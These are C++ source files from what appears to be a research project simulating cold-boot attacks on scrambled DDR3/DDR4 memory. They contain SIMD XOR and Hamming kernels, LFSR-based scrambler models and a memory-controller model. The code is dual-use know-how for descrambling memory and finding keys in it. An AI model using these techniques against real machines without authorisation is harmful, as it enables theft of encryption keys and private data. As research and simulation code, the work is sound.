 * Every hot loop in the pipeline — the scrambler litmus scan, the
 * reboot-XOR descramble, the AES litmus Hamming comparisons, the
 * miner's cluster distances and the decay application — is a
 * XOR-and-popcount sweep over 64-byte blocks. This layer provides
 * those sweeps as a small kernel table with three interchangeable
 * implementations (scalar, SSE2, AVX2; a NEON seam is stubbed for
 * aarch64 ports) selected once at startup.
 *
 * **The scalar backend is the reference implementation**: it is
 * written for obviousness, never reads past the logical length, and
 * every other backend is required to be *bit-identical* to it on
 * every input — any length 0..N, any source/destination alignment.
 * The contract is enforced by the exhaustive differential tests in
 * tests/test_simd.cc, the `simd-vs-scalar` fuzz oracle, the
 * end-to-end fingerprint tests (mine/search/attack results identical
 * across `COLDBOOT_SIMD` backends and pool widths) and the
 * `COLDBOOT_SIMD=scalar` CI leg.
 *
 * Backend selection, in priority order:
 *   1. an explicit setBackend() call (the tool's `--simd` flag);
 *   2. the `COLDBOOT_SIMD` environment variable
 *      (`avx2 | sse2 | scalar`; unknown or unsupported values are a
 *      fatal startup error);
 *   3. the best backend the CPU supports (CPUID probe, AVX2 > SSE2 >
 *      scalar), resolved once on first kernel use.
 *
 * This library is deliberately dependency-free (cb_common links it,
 * so it cannot link cb_common back); misuse aborts with a plain
 * stderr message instead of cb_panic.
 */

#ifndef COLDBOOT_SIMD_SIMD_HH
#define COLDBOOT_SIMD_SIMD_HH

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <optional>
#include <string_view>

namespace coldboot::simd
{

/**
 * The natural block size of every sweep in the attack stack: one
 * DDR4 cache line / scrambler key. Vector kernels consume whole
 * 64-byte blocks per iteration and fall back to the scalar tail
 * handler for the remainder, so any length is accepted.
 */
inline constexpr size_t kBlockBytes = 64;

/**
 * Kernel backends, weakest first. Sse2 and Avx2 exist on x86 builds
 * only; backendCompiled()/backendUsable() report availability.
 */
enum class Backend : unsigned {
    Scalar = 0,
    Sse2 = 1,
    Avx2 = 2,
    // NEON seam: an aarch64 port adds `Neon` here plus a
    // kernels_neon.cc translation unit; the dispatch below already
    // iterates backends generically.
};

/** Number of Backend enumerators (dispatch tables size to this). */
inline constexpr unsigned kBackendCount = 3;

/**
 * One backend's kernel table. All kernels accept any length and any
 * alignment, never touch bytes outside [p, p + n), and return values
 * bit-identical to the scalar reference.
 */
struct Kernels
{
    /** dst[i] ^= src[i] for i in [0, n). Ranges must not overlap. */
    void (*xor_bytes)(uint8_t *dst, const uint8_t *src, size_t n);

    /** out[i] = a[i] ^ b[i]; out must not overlap a or b. */
    void (*xor_into)(uint8_t *out, const uint8_t *a, const uint8_t *b,
                     size_t n);

    /**
     * dst[i] ^= key[i % 64] — the reboot-XOR descramble sweep. The
     * key phase starts at dst[0], so callers chunking a larger
     * stream must cut chunks on 64-byte boundaries.
     */
    void (*xor_repeat_key64)(uint8_t *dst, const uint8_t *key,
                             size_t n);

    /** Hamming distance: popcount(a ^ b) over [0, n). */
    size_t (*hamming_distance)(const uint8_t *a, const uint8_t *b,
                               size_t n);

    /**
     * Bounded Hamming distance: exactly min(distance, limit + 1).
     * The early exit is an implementation detail; the return value
     * is the same for every backend.
     */
    size_t (*hamming_bounded)(const uint8_t *a, const uint8_t *b,
                              size_t n, size_t limit);

    /** Hamming weight: popcount(p) over [0, n). */
    size_t (*hamming_weight)(const uint8_t *p, size_t n);

    /** Masked compare: popcount((a ^ b) & mask) over [0, n). */
    size_t (*masked_mismatch)(const uint8_t *a, const uint8_t *b,
                              const uint8_t *mask, size_t n);

    /** True when every byte equals p[0] (vacuously true for n = 0). */
    bool (*is_constant)(const uint8_t *p, size_t n);

    /**
     * Total bit mismatch of the paper's four Section III-B byte-pair
     * invariants over one 64-byte block (16 equations of 16 bits; 0
     * for a pristine DDR4 scrambler key). Exactly
     * attack::scramblerKeyLitmusScore.
     */
    unsigned (*scrambler_litmus_score64)(const uint8_t *block);

    /**
     * Decay-pattern apply: returns popcount(data ^ ground) (the
     * visible flip count), then overwrites data with ground. One
     * fused pass instead of distance + copy.
     */
    uint64_t (*decay_apply_ground)(uint8_t *data,
                                   const uint8_t *ground, size_t n);
};

/** Stable lower-case backend name ("scalar", "sse2", "avx2"). */
const char *backendName(Backend b);

/** Parse a backend name (the COLDBOOT_SIMD / --simd grammar). */
std::optional<Backend> parseBackend(std::string_view name);

/** Whether the backend's code is compiled into this binary. */
bool backendCompiled(Backend b);

/** Whether the backend is compiled AND this CPU can execute it. */
bool backendUsable(Backend b);

/**
 * The kernel table of one specific backend, bypassing dispatch.
 * This is the differential-test entry point: tests, the fuzz oracle
 * and the benches compare backends directly through it without
 * touching the process-global active backend (so concurrent fuzz
 * cases stay independent). Aborts if the backend is not usable —
 * check backendUsable() first.
 */
const Kernels &kernels(Backend b);

/** The currently active backend (resolving it on first use). */
Backend activeBackend();

/**
 * Force the active backend. Returns false (and changes nothing) when
 * the backend is not usable on this host. Not synchronized against
 * in-flight kernel calls: flip it only from single-threaded control
 * points (startup flags, test setup) — concurrent *readers* are fine.
 */
bool setBackend(Backend b);

/**
 * Re-read COLDBOOT_SIMD and re-resolve the active backend, exactly
 * as the lazy first-use resolution does: unknown or unsupported
 * values terminate with exit code 1. Exposed so tests can drive the
 * env parsing mid-process.
 */
void reinitFromEnv();

/** RAII backend override for tests and benches. */
class ScopedBackend
{
  public:
    explicit ScopedBackend(Backend b) : saved(activeBackend())
    {
        ok = setBackend(b);
    }

    ~ScopedBackend() { setBackend(saved); }

    ScopedBackend(const ScopedBackend &) = delete;
    ScopedBackend &operator=(const ScopedBackend &) = delete;

    /** Whether the requested backend was actually installed. */
    bool active() const { return ok; }

  private:
    Backend saved;
    bool ok;
};

namespace detail
{
/** Active table; null until first resolution. */
extern std::atomic<const Kernels *> g_active;
/** Resolve from COLDBOOT_SIMD / CPUID, install and return. */
const Kernels &resolveAndInstall();
} // namespace detail

/** The active kernel table (one relaxed atomic load when hot). */
inline const Kernels &
activeKernels()
{
    const Kernels *k = detail::g_active.load(std::memory_order_acquire);
    return k != nullptr ? *k : detail::resolveAndInstall();
}

//
// Dispatched convenience wrappers (the call sites' spelling).
//

inline void
xorBytes(uint8_t *dst, const uint8_t *src, size_t n)
{
    activeKernels().xor_bytes(dst, src, n);
}

inline void
xorInto(uint8_t *out, const uint8_t *a, const uint8_t *b, size_t n)
{
    activeKernels().xor_into(out, a, b, n);
}

inline void
xorRepeatKey64(uint8_t *dst, const uint8_t *key, size_t n)
{
    activeKernels().xor_repeat_key64(dst, key, n);
}

inline size_t
hammingDistance(const uint8_t *a, const uint8_t *b, size_t n)
{
    return activeKernels().hamming_distance(a, b, n);
}

inline size_t
hammingDistanceBounded(const uint8_t *a, const uint8_t *b, size_t n,
                       size_t limit)
{
    return activeKernels().hamming_bounded(a, b, n, limit);
}

inline size_t
hammingWeight(const uint8_t *p, size_t n)
{
    return activeKernels().hamming_weight(p, n);
}

inline size_t
maskedMismatch(const uint8_t *a, const uint8_t *b,
               const uint8_t *mask, size_t n)
{
    return activeKernels().masked_mismatch(a, b, mask, n);
}

inline bool
isConstant(const uint8_t *p, size_t n)
{
    return activeKernels().is_constant(p, n);
}

inline unsigned
scramblerLitmusScore64(const uint8_t *block)
{
    return activeKernels().scrambler_litmus_score64(block);
}

inline uint64_t
decayApplyGround(uint8_t *data, const uint8_t *ground, size_t n)
{
    return activeKernels().decay_apply_ground(data, ground, n);
}

} // namespace coldboot::simd

#endif // COLDBOOT_SIMD_SIMD_HH
