/**
 * @file
 * Backend dispatch plus the scalar reference kernels.
 *
 * The scalar kernels are the correctness oracle of the whole layer:
 * they are written for obviousness (word loop + byte tail, no reads
 * past the logical length) and every vector backend must match them
 * bit for bit. Resist the urge to "optimize" them beyond the 8-byte
 * word sweep — their job is to be unarguably right.
 */

#include "simd/kernels.hh"

#include <bit>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace coldboot::simd
{

namespace
{

/** Alignment-free 64-bit load (byte order cancels under popcount). */
inline uint64_t
load64(const uint8_t *p)
{
    uint64_t v;
    std::memcpy(&v, p, 8);
    return v;
}

inline void
store64(uint8_t *p, uint64_t v)
{
    std::memcpy(p, &v, 8);
}

//
// Scalar reference kernels.
//

void
scalarXorBytes(uint8_t *dst, const uint8_t *src, size_t n)
{
    size_t i = 0;
    for (; i + 8 <= n; i += 8)
        store64(dst + i, load64(dst + i) ^ load64(src + i));
    for (; i < n; ++i)
        dst[i] ^= src[i];
}

void
scalarXorInto(uint8_t *out, const uint8_t *a, const uint8_t *b,
              size_t n)
{
    size_t i = 0;
    for (; i + 8 <= n; i += 8)
        store64(out + i, load64(a + i) ^ load64(b + i));
    for (; i < n; ++i)
        out[i] = a[i] ^ b[i];
}

void
scalarXorRepeatKey64(uint8_t *dst, const uint8_t *key, size_t n)
{
    size_t i = 0;
    for (; i + 64 <= n; i += 64)
        scalarXorBytes(dst + i, key, 64);
    for (; i < n; ++i)
        dst[i] ^= key[i % 64];
}

size_t
scalarHammingDistance(const uint8_t *a, const uint8_t *b, size_t n)
{
    size_t dist = 0;
    size_t i = 0;
    for (; i + 8 <= n; i += 8)
        dist += static_cast<size_t>(
            std::popcount(load64(a + i) ^ load64(b + i)));
    for (; i < n; ++i)
        dist += static_cast<size_t>(
            std::popcount(static_cast<unsigned>(a[i] ^ b[i])));
    return dist;
}

size_t
scalarHammingBounded(const uint8_t *a, const uint8_t *b, size_t n,
                     size_t limit)
{
    size_t dist = 0;
    size_t i = 0;
    for (; i + 8 <= n; i += 8) {
        dist += static_cast<size_t>(
            std::popcount(load64(a + i) ^ load64(b + i)));
        if (dist > limit)
            return limit + 1;
    }
    for (; i < n; ++i)
        dist += static_cast<size_t>(
            std::popcount(static_cast<unsigned>(a[i] ^ b[i])));
    return dist <= limit ? dist : limit + 1;
}

size_t
scalarHammingWeight(const uint8_t *p, size_t n)
{
    size_t weight = 0;
    size_t i = 0;
    for (; i + 8 <= n; i += 8)
        weight += static_cast<size_t>(std::popcount(load64(p + i)));
    for (; i < n; ++i)
        weight += static_cast<size_t>(
            std::popcount(static_cast<unsigned>(p[i])));
    return weight;
}

size_t
scalarMaskedMismatch(const uint8_t *a, const uint8_t *b,
                     const uint8_t *mask, size_t n)
{
    size_t count = 0;
    size_t i = 0;
    for (; i + 8 <= n; i += 8)
        count += static_cast<size_t>(std::popcount(
            (load64(a + i) ^ load64(b + i)) & load64(mask + i)));
    for (; i < n; ++i)
        count += static_cast<size_t>(std::popcount(
            static_cast<unsigned>((a[i] ^ b[i]) & mask[i])));
    return count;
}

bool
scalarIsConstant(const uint8_t *p, size_t n)
{
    for (size_t i = 1; i < n; ++i)
        if (p[i] != p[0])
            return false;
    return true;
}

/** 16-bit little-endian lane load (the litmus equation operand). */
inline unsigned
load16(const uint8_t *p)
{
    return static_cast<unsigned>(p[0] | (p[1] << 8));
}

unsigned
scalarScramblerLitmusScore64(const uint8_t *block)
{
    // The paper's four Section III-B byte-pair invariants, evaluated
    // on every 16-byte word of the block — transcribed directly, as
    // the reference the vector reformulations are tested against.
    unsigned errors = 0;
    for (unsigned base = 0; base < 64; base += 16) {
        const uint8_t *p = block + base;
        const unsigned w0 = load16(p + 0);
        const unsigned w2 = load16(p + 2);
        const unsigned w4 = load16(p + 4);
        const unsigned w6 = load16(p + 6);
        const unsigned w8 = load16(p + 8);
        const unsigned w10 = load16(p + 10);
        const unsigned w12 = load16(p + 12);
        const unsigned w14 = load16(p + 14);
        errors += static_cast<unsigned>(
            std::popcount((w2 ^ w4) ^ (w10 ^ w12)));
        errors += static_cast<unsigned>(
            std::popcount((w0 ^ w6) ^ (w8 ^ w14)));
        errors += static_cast<unsigned>(
            std::popcount((w0 ^ w4) ^ (w8 ^ w12)));
        errors += static_cast<unsigned>(
            std::popcount((w0 ^ w2) ^ (w8 ^ w10)));
    }
    return errors;
}

uint64_t
scalarDecayApplyGround(uint8_t *data, const uint8_t *ground, size_t n)
{
    uint64_t flips = 0;
    size_t i = 0;
    for (; i + 8 <= n; i += 8) {
        flips += static_cast<uint64_t>(
            std::popcount(load64(data + i) ^ load64(ground + i)));
        store64(data + i, load64(ground + i));
    }
    for (; i < n; ++i) {
        flips += static_cast<uint64_t>(
            std::popcount(static_cast<unsigned>(data[i] ^ ground[i])));
        data[i] = ground[i];
    }
    return flips;
}

constexpr Kernels scalar_table = {
    scalarXorBytes,       scalarXorInto,
    scalarXorRepeatKey64, scalarHammingDistance,
    scalarHammingBounded, scalarHammingWeight,
    scalarMaskedMismatch, scalarIsConstant,
    scalarScramblerLitmusScore64, scalarDecayApplyGround,
};

/** The compiled table for a backend, or nullptr. */
const Kernels *
backendTable(Backend b)
{
    switch (b) {
    case Backend::Scalar:
        return &scalar_table;
    case Backend::Sse2:
        return detail::sse2Kernels();
    case Backend::Avx2:
        return detail::avx2Kernels();
    }
    return nullptr;
}

/** Mirror of the active table for activeBackend() reporting. */
std::atomic<unsigned> g_active_backend{0};

[[noreturn]] void
badEnvValue(const char *value, const char *why)
{
    std::fprintf(stderr,
                 "coldboot: COLDBOOT_SIMD=%s: %s (want avx2, sse2 "
                 "or scalar)\n",
                 value, why);
    std::exit(1);
}

/** Best usable backend, strongest first. */
Backend
bestBackend()
{
    for (unsigned i = kBackendCount; i-- > 0;) {
        Backend b = static_cast<Backend>(i);
        if (backendUsable(b))
            return b;
    }
    return Backend::Scalar;
}

/** Resolve COLDBOOT_SIMD (or CPUID best) to a backend, loudly. */
Backend
resolveBackend()
{
    const char *env = std::getenv("COLDBOOT_SIMD");
    if (env == nullptr || *env == '\0')
        return bestBackend();
    auto parsed = parseBackend(env);
    if (!parsed)
        badEnvValue(env, "unknown backend");
    if (!backendUsable(*parsed))
        badEnvValue(env, "not supported on this CPU");
    return *parsed;
}

void
install(Backend b)
{
    g_active_backend.store(static_cast<unsigned>(b),
                           std::memory_order_relaxed);
    detail::g_active.store(backendTable(b), std::memory_order_release);
}

} // anonymous namespace

namespace detail
{

std::atomic<const Kernels *> g_active{nullptr};

const Kernels &
scalarKernels()
{
    return scalar_table;
}

const Kernels &
resolveAndInstall()
{
    // Benignly racy: concurrent first calls resolve to the same
    // backend (the env cannot change mid-resolution in a sane
    // process) and install the same pointer.
    Backend b = resolveBackend();
    install(b);
    return *backendTable(b);
}

} // namespace detail

const char *
backendName(Backend b)
{
    switch (b) {
    case Backend::Scalar:
        return "scalar";
    case Backend::Sse2:
        return "sse2";
    case Backend::Avx2:
        return "avx2";
    }
    return "unknown";
}

std::optional<Backend>
parseBackend(std::string_view name)
{
    if (name == "scalar")
        return Backend::Scalar;
    if (name == "sse2")
        return Backend::Sse2;
    if (name == "avx2")
        return Backend::Avx2;
    return std::nullopt;
}

bool
backendCompiled(Backend b)
{
    return backendTable(b) != nullptr;
}

bool
backendUsable(Backend b)
{
    return backendCompiled(b) && detail::cpuSupports(b);
}

const Kernels &
kernels(Backend b)
{
    if (!backendUsable(b)) {
        std::fprintf(stderr,
                     "coldboot: simd::kernels(%s) on a host without "
                     "that backend; check backendUsable() first\n",
                     backendName(b));
        std::abort();
    }
    return *backendTable(b);
}

Backend
activeBackend()
{
    activeKernels(); // force resolution
    return static_cast<Backend>(
        g_active_backend.load(std::memory_order_relaxed));
}

bool
setBackend(Backend b)
{
    if (!backendUsable(b))
        return false;
    install(b);
    return true;
}

void
reinitFromEnv()
{
    install(resolveBackend());
}

} // namespace coldboot::simd
