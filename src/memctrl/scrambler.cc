#include "memctrl/scrambler.hh"

#include <cstring>

#include "common/bits.hh"
#include "common/logging.hh"
#include "memctrl/lfsr.hh"

namespace coldboot::memctrl
{

namespace
{

/** Stateless 64-bit mix (SplitMix64 finalizer). */
uint64_t
mix64(uint64_t z)
{
    z += 0x9e3779b97f4a7c15ULL;
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

/** Fill 64 bytes from an LFSR, 16 bits at a time. */
void
fillFromLfsr(Lfsr &lfsr, uint8_t out[lineBytes])
{
    for (unsigned i = 0; i < lineBytes; i += 2)
        storeLE16(&out[i], lfsr.next16());
}

} // anonymous namespace

void
Scrambler::apply(uint64_t phys_addr, std::span<const uint8_t> in,
                 std::span<uint8_t> out) const
{
    cb_assert(in.size() == lineBytes && out.size() == lineBytes,
              "Scrambler::apply: line must be 64 bytes");
    uint8_t key[lineBytes];
    lineKey(phys_addr, key);
    for (size_t i = 0; i < lineBytes; ++i)
        out[i] = in[i] ^ key[i];
}

//
// DDR3
//

Ddr3Scrambler::Ddr3Scrambler(uint64_t seed, unsigned channel)
    : boot_seed(seed), chan(channel)
{
    rebuildPool();
}

unsigned
Ddr3Scrambler::keyIndex(uint64_t phys_addr)
{
    // 16 keys selected by address bits [9:6] (line index low bits).
    return static_cast<unsigned>(bitsOf(phys_addr, 9, 6));
}

void
Ddr3Scrambler::rebuildPool()
{
    // The seed contributes one 64-byte pattern shared by all keys.
    seed_pattern.assign(lineBytes, 0);
    Lfsr seed_lfsr(Lfsr::taps32, 32,
                   mix64(boot_seed ^ (0xD3ULL << 56) ^ chan));
    fillFromLfsr(seed_lfsr, seed_pattern.data());

    // The 16 per-index patterns depend only on the address bits (the
    // LFSRs are "seeded using a portion of the address bits"), so
    // they are identical on every boot - the root cause of the
    // universal-key factoring weakness.
    index_patterns.assign(16, std::vector<uint8_t>(lineBytes, 0));
    for (unsigned idx = 0; idx < 16; ++idx) {
        Lfsr idx_lfsr(Lfsr::taps32, 32,
                      mix64(0xDD3A5C0FFEE00000ULL ^ (idx * 0x9E37ULL) ^
                            (static_cast<uint64_t>(chan) << 32)));
        fillFromLfsr(idx_lfsr, index_patterns[idx].data());
    }
}

void
Ddr3Scrambler::lineKey(uint64_t phys_addr, uint8_t key[lineBytes]) const
{
    unsigned idx = keyIndex(phys_addr);
    const auto &pattern = index_patterns[idx];
    for (size_t i = 0; i < lineBytes; ++i)
        key[i] = static_cast<uint8_t>(pattern[i] ^ seed_pattern[i]);
}

void
Ddr3Scrambler::reseed(uint64_t seed)
{
    boot_seed = seed;
    rebuildPool();
}

//
// DDR4
//

Ddr4Scrambler::Ddr4Scrambler(uint64_t seed, unsigned channel)
    : boot_seed(seed), chan(channel)
{
    rebuildPool();
}

unsigned
Ddr4Scrambler::keyIndex(uint64_t phys_addr)
{
    // 4096 keys selected by address bits [17:6].
    return static_cast<unsigned>(bitsOf(phys_addr, 17, 6));
}

void
Ddr4Scrambler::rebuildPool()
{
    pool.assign(4096 * lineBytes, 0);
    for (unsigned idx = 0; idx < 4096; ++idx) {
        uint8_t *key = &pool[static_cast<size_t>(idx) * lineBytes];
        // Per-(seed, index) LFSR: the seed participates in the LFSR
        // state (not as a separable XOR), so the universal-key
        // factoring of DDR3 does not occur. The index is folded in
        // with a multiply-add rather than XOR so that no pair of
        // indices is related by an involution across two seeds.
        Lfsr lane(Lfsr::taps32, 32,
                  mix64((boot_seed +
                         0x9e3779b97f4a7c15ULL * (idx + 1)) ^
                        (static_cast<uint64_t>(chan) << 48) ^
                        0xDD4ULL));
        // Each 16-byte word: four 16-bit lanes A0..A3 followed by the
        // same lanes offset by a per-word 16-bit difference D - the
        // hardware pattern behind the paper's byte-pair invariants.
        for (unsigned word = 0; word < lineBytes; word += 16) {
            uint16_t a[4];
            for (auto &v : a)
                v = lane.next16();
            uint16_t d = lane.next16();
            for (unsigned k = 0; k < 4; ++k) {
                storeLE16(&key[word + 2 * k], a[k]);
                storeLE16(&key[word + 8 + 2 * k],
                          static_cast<uint16_t>(a[k] ^ d));
            }
        }
    }
}

void
Ddr4Scrambler::poolKey(unsigned idx, uint8_t key[lineBytes]) const
{
    cb_assert(idx < 4096, "Ddr4Scrambler::poolKey: idx %u", idx);
    std::memcpy(key, &pool[static_cast<size_t>(idx) * lineBytes],
                lineBytes);
}

void
Ddr4Scrambler::lineKey(uint64_t phys_addr, uint8_t key[lineBytes]) const
{
    poolKey(keyIndex(phys_addr), key);
}

void
Ddr4Scrambler::reseed(uint64_t seed)
{
    boot_seed = seed;
    rebuildPool();
}

} // namespace coldboot::memctrl
