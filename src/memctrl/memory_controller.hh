/**
 * @file
 * Integrated memory controller model: address mapping + per-channel
 * scrambler + attached DIMMs.
 *
 * All CPU-side traffic passes through the scrambler on the way to
 * DRAM and through the descrambler on the way back, exactly as in the
 * paper's Figure 1; software never sees raw scrambled data unless the
 * scrambler is disabled (the BIOS-toggle / FPGA analysis path).
 */

#ifndef COLDBOOT_MEMCTRL_MEMORY_CONTROLLER_HH
#define COLDBOOT_MEMCTRL_MEMORY_CONTROLLER_HH

#include <functional>
#include <memory>
#include <span>
#include <vector>

#include "dram/dram_module.hh"
#include "memctrl/address_map.hh"
#include "memctrl/scrambler.hh"
#include "obs/stats.hh"

namespace coldboot::memctrl
{

/**
 * Factory producing a scrambler (or scrambler replacement) for a
 * channel; lets the engine library inject strong cipher keystreams.
 */
using ScramblerFactory =
    std::function<std::unique_ptr<Scrambler>(uint64_t seed,
                                             unsigned channel)>;

/** The default factory: DDR3 or DDR4 scrambler per CPU generation. */
ScramblerFactory defaultScramblerFactory(CpuGeneration gen);

/**
 * The memory controller integrated in a CPU.
 */
class MemoryController
{
  public:
    /**
     * @param gen      CPU generation (address map + scrambler type).
     * @param channels Channel count (1 or 2).
     * @param seed     Initial scrambler seed.
     * @param factory  Optional scrambler replacement factory.
     */
    MemoryController(CpuGeneration gen, unsigned channels,
                     uint64_t seed, ScramblerFactory factory = {});

    /** Insert a DIMM into a channel's slot. */
    void attachDimm(unsigned channel,
                    std::shared_ptr<dram::DramModule> dimm);

    /** Pull the DIMM out of a channel's slot. */
    std::shared_ptr<dram::DramModule> detachDimm(unsigned channel);

    /** The DIMM in a channel (nullptr if empty). */
    dram::DramModule *dimm(unsigned channel) const;

    /** Total addressable capacity across populated channels. */
    uint64_t capacity() const;

    /** Enable/disable scrambling (the BIOS menu toggle). */
    void setScramblingEnabled(bool enabled) { scrambling = enabled; }

    /** Whether scrambling is currently enabled. */
    bool scramblingEnabled() const { return scrambling; }

    /** Install a new boot-time scrambler seed on every channel. */
    void reseed(uint64_t seed);

    /**
     * CPU-side 64-byte line write: data is scrambled (if enabled)
     * before reaching DRAM.
     */
    void writeLine(uint64_t phys_addr, std::span<const uint8_t> data);

    /**
     * CPU-side 64-byte line read: DRAM data is descrambled (if
     * enabled) before reaching the CPU.
     */
    void readLine(uint64_t phys_addr, std::span<uint8_t> out) const;

    /** Arbitrary-length line-aligned CPU-side write. */
    void write(uint64_t phys_addr, std::span<const uint8_t> data);

    /** Arbitrary-length line-aligned CPU-side read. */
    void read(uint64_t phys_addr, std::span<uint8_t> out) const;

    /** Per-channel scrambler access (analysis and tests). */
    Scrambler &scrambler(unsigned channel) const;

    /** The address map in use. */
    const AddressMap &addressMap() const { return amap; }

    /** CPU generation. */
    CpuGeneration generation() const { return amap.generation(); }

  private:
    void checkLine(uint64_t phys_addr, size_t len) const;

    /**
     * Registry-backed per-channel traffic counters
     * (`memctrl.chN.{reads,writes,bytes_scrambled}`). Resolved once
     * at construction; the Counter references stay valid for the
     * registry's lifetime, so the hot path is a relaxed atomic add.
     */
    struct ChannelCounters
    {
        obs::Counter *reads;
        obs::Counter *writes;
        obs::Counter *bytes_scrambled;
    };

    AddressMap amap;
    std::vector<std::unique_ptr<Scrambler>> scramblers;
    std::vector<std::shared_ptr<dram::DramModule>> dimms;
    std::vector<ChannelCounters> chan_counters;
    bool scrambling;
};

} // namespace coldboot::memctrl

#endif // COLDBOOT_MEMCTRL_MEMORY_CONTROLLER_HH
