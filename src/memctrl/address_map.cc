#include "memctrl/address_map.hh"

#include "common/bits.hh"
#include "common/logging.hh"

namespace coldboot::memctrl
{

const char *
cpuGenerationName(CpuGeneration gen)
{
    switch (gen) {
      case CpuGeneration::SandyBridge: return "SandyBridge";
      case CpuGeneration::IvyBridge: return "IvyBridge";
      case CpuGeneration::Skylake: return "Skylake";
    }
    return "?";
}

bool
cpuUsesDdr4(CpuGeneration gen)
{
    return gen == CpuGeneration::Skylake;
}

AddressMap::AddressMap(CpuGeneration gen, unsigned channels)
    : cpu_gen(gen), nchannels(channels)
{
    if (channels != 1 && channels != 2)
        cb_fatal("AddressMap: %u channels unsupported (1 or 2)",
                 channels);
}

unsigned
AddressMap::channelOf(uint64_t phys_addr) const
{
    if (nchannels == 1)
        return 0;
    uint64_t line = phys_addr >> 6;
    // Generation-specific channel hash: line-interleaved with an
    // XOR fold of higher bits at generation-dependent positions.
    switch (cpu_gen) {
      case CpuGeneration::SandyBridge:
        return static_cast<unsigned>((line ^ (line >> 8)) & 1);
      case CpuGeneration::IvyBridge:
        return static_cast<unsigned>((line ^ (line >> 7)) & 1);
      case CpuGeneration::Skylake:
        return static_cast<unsigned>(
            (line ^ (line >> 9) ^ (line >> 13)) & 1);
    }
    return 0;
}

uint64_t
AddressMap::moduleAddress(uint64_t phys_addr) const
{
    if (nchannels == 1)
        return phys_addr;
    // Remove the line-interleave bit: consecutive lines alternate
    // between channels, so each channel sees lines at half density.
    uint64_t line = phys_addr >> 6;
    uint64_t offset = phys_addr & 63;
    return ((line >> 1) << 6) | offset;
}

DramLocation
AddressMap::decode(uint64_t phys_addr) const
{
    DramLocation loc;
    loc.channel = channelOf(phys_addr);
    uint64_t maddr = moduleAddress(phys_addr);
    // Representative geometry: 8 KiB rows, banks hashed above
    // columns at a generation-specific position.
    loc.column = bitsOf(maddr, 12, 0);
    switch (cpu_gen) {
      case CpuGeneration::SandyBridge:
        loc.bank = static_cast<unsigned>(
            bitsOf(maddr, 15, 13) ^ bitsOf(maddr, 18, 16));
        break;
      case CpuGeneration::IvyBridge:
        loc.bank = static_cast<unsigned>(
            bitsOf(maddr, 15, 13) ^ bitsOf(maddr, 19, 17));
        break;
      case CpuGeneration::Skylake:
        loc.bank = static_cast<unsigned>(
            (bitsOf(maddr, 16, 13) ^ bitsOf(maddr, 20, 17)) & 0xf);
        break;
    }
    loc.row = maddr >> 16;
    return loc;
}

} // namespace coldboot::memctrl
