#include "memctrl/lfsr.hh"

#include "common/logging.hh"

namespace coldboot::memctrl
{

Lfsr::Lfsr(uint64_t taps, unsigned width, uint64_t seed)
    : tap_mask(taps), nbits(width)
{
    if (width == 0 || width > 64)
        cb_fatal("Lfsr: width %u out of range [1,64]", width);
    width_mask = width >= 64 ? ~0ULL : ((1ULL << width) - 1);
    tap_mask &= width_mask;
    reg = seed & width_mask;
    if (reg == 0)
        reg = width_mask; // avoid the absorbing all-zero state
}

unsigned
Lfsr::stepBit()
{
    unsigned out = static_cast<unsigned>(reg & 1);
    reg >>= 1;
    if (out)
        reg ^= tap_mask;
    return out;
}

uint64_t
Lfsr::stepBits(unsigned n)
{
    cb_assert(n <= 64, "Lfsr::stepBits: n=%u > 64", n);
    uint64_t out = 0;
    for (unsigned i = 0; i < n; ++i)
        out |= static_cast<uint64_t>(stepBit()) << i;
    return out;
}

} // namespace coldboot::memctrl
