/**
 * @file
 * Physical-address to DRAM-geometry mapping.
 *
 * Different Intel CPU generations map physical addresses to channel,
 * rank, bank and row differently — which is why the paper's attack
 * model requires the dumping machine to be the same generation as the
 * victim. The mappings here are representative (line-interleaved
 * channels with a generation-specific XOR hash, bank bits above the
 * line offset, rows on top); they are not Intel's undocumented exact
 * functions, but they preserve the property the attack cares about:
 * the map is a fixed, generation-specific permutation.
 */

#ifndef COLDBOOT_MEMCTRL_ADDRESS_MAP_HH
#define COLDBOOT_MEMCTRL_ADDRESS_MAP_HH

#include <cstdint>
#include <string>

namespace coldboot::memctrl
{

/** CPU generations from the paper's Table I. */
enum class CpuGeneration { SandyBridge, IvyBridge, Skylake };

/** Printable name of a CPU generation. */
const char *cpuGenerationName(CpuGeneration gen);

/** DRAM interface generation a CPU generation uses. */
bool cpuUsesDdr4(CpuGeneration gen);

/** Decoded DRAM coordinates for one line address. */
struct DramLocation
{
    unsigned channel;
    unsigned bank;
    uint64_t row;
    uint64_t column;
};

/**
 * Generation-specific physical-address decoder.
 */
class AddressMap
{
  public:
    /**
     * @param gen      CPU generation (selects the hash).
     * @param channels Number of populated channels (1 or 2).
     */
    AddressMap(CpuGeneration gen, unsigned channels);

    /** Channel for the 64-byte line containing @p phys_addr. */
    unsigned channelOf(uint64_t phys_addr) const;

    /**
     * Linear byte address within the selected channel's DIMM for
     * @p phys_addr (the channel-interleaving bits are squeezed out).
     */
    uint64_t moduleAddress(uint64_t phys_addr) const;

    /** Full geometry decode (bank/row/column are representative). */
    DramLocation decode(uint64_t phys_addr) const;

    /** Number of channels. */
    unsigned channels() const { return nchannels; }

    /** CPU generation of this map. */
    CpuGeneration generation() const { return cpu_gen; }

  private:
    CpuGeneration cpu_gen;
    unsigned nchannels;
};

} // namespace coldboot::memctrl

#endif // COLDBOOT_MEMCTRL_ADDRESS_MAP_HH
