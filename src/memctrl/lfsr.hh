/**
 * @file
 * Linear feedback shift registers.
 *
 * Intel's own description of the Westmere-era scrambler (Mosalikanti
 * et al., VLSI-DAT 2011) says the scrambling pseudo-random numbers
 * come from LFSRs seeded with a boot-time value plus a portion of the
 * address bits. Our reconstructed scramblers are built on this class;
 * its statistical weakness (linearity) is precisely what makes the
 * scramblers attackable, in contrast to the real ciphers in
 * src/crypto.
 */

#ifndef COLDBOOT_MEMCTRL_LFSR_HH
#define COLDBOOT_MEMCTRL_LFSR_HH

#include <cstdint>

namespace coldboot::memctrl
{

/**
 * Galois-form LFSR over up to 64 bits.
 */
class Lfsr
{
  public:
    /**
     * @param taps  Tap mask (the feedback polynomial without the
     *              leading term); e.g. 0xB400... for the classic
     *              64-bit maximal polynomial.
     * @param width Register width in bits (1..64).
     * @param seed  Initial state; forced nonzero internally since an
     *              all-zero Galois LFSR state is absorbing.
     */
